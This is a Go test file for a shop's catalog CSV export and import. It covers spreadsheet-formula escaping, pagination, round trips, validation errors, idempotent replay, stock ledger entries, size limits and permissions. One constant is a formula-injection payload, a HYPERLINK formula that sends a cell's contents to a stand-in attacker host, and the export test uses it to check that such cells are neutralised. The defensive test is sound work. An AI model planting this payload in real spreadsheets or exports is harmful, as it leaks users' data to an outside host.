package product_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"connectrpc.com/connect"
	"github.com/google/go-cmp/cmp"
	"google.golang.org/protobuf/testing/protocmp"
	"google.golang.org/protobuf/types/known/fieldmaskpb"

	productv1 "github.com/emporiumhq/emporium/gen/emporium/product/v1"
)

const hyperlink = `=HYPERLINK("https://evil.example/?leak="&A1,"Click for a discount")`

// export reads a whole export, page by page.
func (e *env) export(t *testing.T, file productv1.CatalogFile, pageSize int32) (string, int) {
	t.Helper()
	var b strings.Builder
	token, pages := "", 0
	for {
		res, err := e.staff.ExportCatalog(context.Background(), &productv1.ExportCatalogRequest{File: file, PageSize: pageSize, PageToken: token})
		if err != nil {
			t.Fatal(err)
		}
		b.WriteString(res.GetCsv())
		pages++
		if token = res.GetNextPageToken(); token == "" {
			return b.String(), pages
		}
	}
}

func TestCatalogExportIsSafeForSpreadsheetsAndImportsBack(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, e *env) {
		seedEnv(t, e, 5)
		ctx := context.Background()
		got, err := e.staff.GetProduct(ctx, &productv1.GetProductRequest{Key: &productv1.GetProductRequest_Slug{Slug: "mugs-002"}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := e.staff.UpdateProduct(ctx, &productv1.UpdateProductRequest{
			Product:    &productv1.Product{Id: got.GetProduct().GetId(), Description: hyperlink, Brand: "+Plus", Title: "@home mug"},
			UpdateMask: &fieldmaskpb.FieldMask{Paths: []string{"description", "brand", "title"}},
		}); err != nil {
			t.Fatal(err)
		}
		text, pages := e.export(t, productv1.CatalogFile_CATALOG_FILE_PRODUCTS, 2)
		if pages != 3 {
			t.Errorf("5 products in pages of 2 took %d pages, want 3", pages)
		}
		records, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("the export is not one CSV: %v\n%s", err, text)
		}
		if len(records) != 11 || strings.Join(records[0], ",") != "slug,title,description,brand,category,status,sku,variant_title,options,price,weight_grams" {
			t.Fatalf("export has %d records, header %v; want the header once and 10 variant rows", len(records), records[0])
		}
		var mug []string
		for _, r := range records[1:] {
			for _, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q would run as a formula", cell)
				}
			}
			if r[6] == "SKU-002-A" {
				mug = r
			}
		}
		if diff := cmp.Diff([]string{"mugs-002", "'@home mug", "'" + hyperlink, "'+Plus", "mugs", "active", "SKU-002-A", "M", "size=M", "12.00", "0"}, mug); diff != "" {
			t.Errorf("the mug's first row (-want +got):\n%s", diff)
		}

		// The export imports back unchanged: every product updated, the
		// formula text restored exactly as it was.
		res, err := e.staff.ImportCatalog(ctx, &productv1.ImportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_PRODUCTS, Csv: text})
		if err != nil {
			t.Fatal(err)
		}
		if !res.GetApplied() || res.GetUpdated() != 5 || res.GetCreated() != 0 || res.GetRows() != 10 || len(res.GetProblems()) != 0 {
			t.Errorf("re-import = %v; want 10 rows applied, 5 products updated", res)
		}
		after, err := e.staff.GetProduct(ctx, &productv1.GetProductRequest{Key: &productv1.GetProductRequest_Slug{Slug: "mugs-002"}})
		if err != nil {
			t.Fatal(err)
		}
		if p := after.GetProduct(); p.GetDescription() != hyperlink || p.GetBrand() != "+Plus" || p.GetTitle() != "@home mug" || p.GetVariants()[0].GetStock() != 5 {
			t.Errorf("after the round trip: %q %q %q stock %d; want the values as they were, stock kept", p.GetTitle(), p.GetDescription(), p.GetBrand(), p.GetVariants()[0].GetStock())
		}

		stock, _ := e.export(t, productv1.CatalogFile_CATALOG_FILE_STOCK, 0)
		if !strings.HasPrefix(stock, "sku,on_hand\r\nSKU-000-A,0\r\nSKU-000-B,0\r\nSKU-001-A,5\r\n") {
			t.Errorf("stock export starts %q", stock[:min(len(stock), 80)])
		}
		if _, err := e.staff.ExportCatalog(ctx, &productv1.ExportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_STOCK, PageToken: "garbage"}); code(err) != connect.CodeInvalidArgument {
			t.Errorf("export with a garbage page token: %v, want invalid_argument", err)
		}
	})
}

func TestCatalogImportReportsEveryBadRowAndChangesNothing(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, e *env) {
		seedEnv(t, e, 3)
		ctx := context.Background()
		file := "slug,title,description,brand,category,status,sku,variant_title,options,price,weight_grams\r\n" +
			"tea-pot,Tea pot,,Northwind,mugs,active,TEA-1,Small,size=S,19.90,800\r\n" + // line 2: fine
			"tea-pot,Tea pot,,Northwind,mugs,active,TEA-2,Large,size=L,twelve,900\r\n" + // line 3: bad price
			"tea-cup,Tea cup,,Northwind,mugs,active,TEA-1,,,4.50,100\r\n" + // line 4: SKU of line 2 again
			"tea-set,Tea set,,Northwind,boats,active,SKU-001-A,,,4.999,100\r\n" // line 5: no such category, a SKU of another product, three decimals
		res, err := e.staff.ImportCatalog(ctx, &productv1.ImportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_PRODUCTS, Csv: file})
		if err != nil {
			t.Fatal(err)
		}
		type problem struct {
			Line   int64
			Column string
		}
		var got []problem
		for _, p := range res.GetProblems() {
			got = append(got, problem{p.GetLine(), p.GetColumn()})
			if p.GetMessage() == "" {
				t.Errorf("problem %v has no message", p)
			}
		}
		want := []problem{{3, "price"}, {4, "sku"}, {5, "category"}, {5, "price"}, {5, "sku"}}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("problems (-want +got):\n%s\nall: %v", diff, res.GetProblems())
		}
		if res.GetApplied() || res.GetRows() != 4 {
			t.Errorf("import = %v; want 4 rows read, nothing applied", res)
		}
		for _, slug := range []string{"tea-pot", "tea-cup"} {
			if _, err := e.anon.GetProduct(ctx, &productv1.GetProductRequest{Key: &productv1.GetProductRequest_Slug{Slug: slug}}); code(err) != connect.CodeNotFound {
				t.Errorf("%s after a refused import: %v, want not_found (all or nothing)", slug, err)
			}
		}
		for _, tt := range []struct{ name, csv, column string }{
			{"a missing column", "slug,title\r\nx,y\r\n", "description"},
			{"an unknown column", strings.Replace(file, "weight_grams", "weight", 1), "weight"},
			{"a header only", "sku,on_hand\r\n", ""},
			{"a broken quote", "sku,on_hand\r\n\"SKU-001-A,5\r\n", ""},
		} {
			f := productv1.CatalogFile_CATALOG_FILE_PRODUCTS
			if strings.HasPrefix(tt.csv, "sku,") {
				f = productv1.CatalogFile_CATALOG_FILE_STOCK
			}
			res, err := e.staff.ImportCatalog(ctx, &productv1.ImportCatalogRequest{File: f, Csv: tt.csv})
			if err != nil || res.GetApplied() || len(res.GetProblems()) == 0 || res.GetProblems()[0].GetColumn() != tt.column {
				t.Errorf("%s: %v, %v; want a problem on column %q", tt.name, res, err, tt.column)
			}
		}
	})
}

func TestCatalogImportAppliesOnceAndRecordsStockInTheLedger(t *testing.T) {
	t.Parallel()
	forEachEngine(t, func(t *testing.T, e *env) {
		seedEnv(t, e, 3)
		ctx := context.Background()
		products := "slug,title,description,brand,category,status,sku,variant_title,options,price,weight_grams\n" +
			"tea-pot,Tea pot,A pot,Northwind,mugs,draft,TEA-1,Small,size=S,19.90,800\n" +
			"tea-pot,Tea pot,A pot,Northwind,mugs,draft,TEA-2,Large,size=L;colour=blue,24,900\n"
		req := &productv1.ImportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_PRODUCTS, Csv: products}
		dry, err := e.staff.ImportCatalog(ctx, &productv1.ImportCatalogRequest{File: req.File, Csv: req.Csv, DryRun: true})
		if err != nil || dry.GetApplied() || len(dry.GetProblems()) != 0 {
			t.Fatalf("dry run = %v, %v; want no problems, nothing applied", dry, err)
		}
		first, err := e.staff.ImportCatalog(ctx, req)
		if err != nil || !first.GetApplied() || first.GetCreated() != 1 || first.GetReplayed() {
			t.Fatalf("import = %v, %v; want one product created", first, err)
		}
		pot, err := e.staff.GetProduct(ctx, &productv1.GetProductRequest{Key: &productv1.GetProductRequest_Slug{Slug: "tea-pot"}})
		if err != nil {
			t.Fatal(err)
		}
		p := pot.GetProduct()
		if p.GetStatus() != productv1.ProductStatus_PRODUCT_STATUS_DRAFT || len(p.GetVariants()) != 2 || p.GetVariants()[1].GetPrice().GetAmount() != 2400 ||
			!cmp.Equal(p.GetVariants()[1].GetOptions(), map[string]string{"size": "L", "colour": "blue"}) || p.GetVariants()[0].GetWeightGrams() != 800 {
			t.Errorf("imported product = %v", p)
		}
		again, err := e.staff.ImportCatalog(ctx, req)
		if err != nil || !again.GetReplayed() || !cmp.Equal(first, again, protocmp.Transform(), protocmp.IgnoreFields(first, "replayed")) {
			t.Errorf("the same file again = %v, %v; want the first result, replayed", again, err)
		}
		if after, _ := e.staff.GetProduct(ctx, &productv1.GetProductRequest{Key: &productv1.GetProductRequest_Id{Id: p.GetId()}}); after.GetProduct().GetEtag() != p.GetEtag() {
			t.Errorf("a replayed import changed the product (etag %s → %s)", p.GetEtag(), after.GetProduct().GetEtag())
		}

		stock := "sku,on_hand\nTEA-1,12\nTEA-2,0\nSKU-001-A,2\n"
		res, err := e.staff.ImportCatalog(ctx, &productv1.ImportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_STOCK, Csv: stock})
		if err != nil || !res.GetApplied() || res.GetUpdated() != 2 {
			t.Fatalf("stock import = %v, %v; want 2 SKUs changed (TEA-2 was already 0)", res, err)
		}
		levels, err := e.inventory.GetStock(ctx, &productv1.GetStockRequest{Skus: []string{"TEA-1", "TEA-2", "SKU-001-A"}})
		if err != nil {
			t.Fatal(err)
		}
		var onHand []int64
		for _, l := range levels.GetLevels() {
			onHand = append(onHand, l.GetOnHand())
		}
		if diff := cmp.Diff([]int64{12, 0, 2}, onHand); diff != "" {
			t.Errorf("stock after import (-want +got):\n%s", diff)
		}
		ledger, err := e.inventory.ListStockMovements(ctx, &productv1.ListStockMovementsRequest{Sku: "SKU-001-A"})
		if err != nil || len(ledger.GetMovements()) != 1 {
			t.Fatalf("ledger = %v, %v", ledger, err)
		}
		if m := ledger.GetMovements()[0]; m.GetDelta() != -3 || m.GetOnHandAfter() != 2 || m.GetActor() != "staff-1" || m.GetReason() != "import "+res.GetSha256()[:12] {
			t.Errorf("the import's ledger entry = %v", m)
		}
		bad, err := e.staff.ImportCatalog(ctx, &productv1.ImportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_STOCK, Csv: "sku,on_hand\nNOPE,1\nTEA-1,-4\nTEA-1,3\n"})
		if err != nil || bad.GetApplied() || len(bad.GetProblems()) != 3 {
			t.Errorf("a bad stock file = %v, %v; want three problems (unknown SKU, negative, repeated SKU)", bad, err)
		}
	})
}

func TestCatalogImportRefusesOversizedFilesAndCustomers(t *testing.T) {
	t.Parallel()
	e := newEnv(t, "sqlite")
	seedEnv(t, e, 3)
	ctx := context.Background()
	row := "SKU-001-A,5\n"
	huge := "sku,on_hand\n" + strings.Repeat(row, 50<<20/len(row)) // 50 MB
	_, err := e.staff.ImportCatalog(ctx, &productv1.ImportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_STOCK, Csv: huge})
	if code(err) != connect.CodeResourceExhausted || !strings.Contains(err.Error(), "larger than configured max") {
		t.Errorf("a 50 MB file: %v, want resource_exhausted naming the limit", err)
	}
	big := "sku,on_hand\n" + strings.Repeat(row, (3<<20)/len(row)+1) // just over 3 MiB
	_, err = e.staff.ImportCatalog(ctx, &productv1.ImportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_STOCK, Csv: big})
	if code(err) != connect.CodeInvalidArgument || !strings.Contains(strings.Join(violationFields(err), ","), "csv") {
		t.Errorf("a file over 3 MiB: %v, want invalid_argument on csv", err)
	}
	if _, err := e.customer.ImportCatalog(ctx, &productv1.ImportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_STOCK, Csv: "sku,on_hand\nSKU-001-A,1\n"}); code(err) != connect.CodePermissionDenied {
		t.Errorf("customer import: %v, want permission_denied", err)
	}
	if _, err := e.customer.ExportCatalog(ctx, &productv1.ExportCatalogRequest{File: productv1.CatalogFile_CATALOG_FILE_STOCK}); code(err) != connect.CodePermissionDenied {
		t.Errorf("customer export: %v, want permission_denied", err)
	}
	if _, err := e.staff.ExportCatalog(ctx, &productv1.ExportCatalogRequest{}); code(err) != connect.CodeInvalidArgument {
		t.Errorf("export without a file: %v, want invalid_argument", err)
	}
}
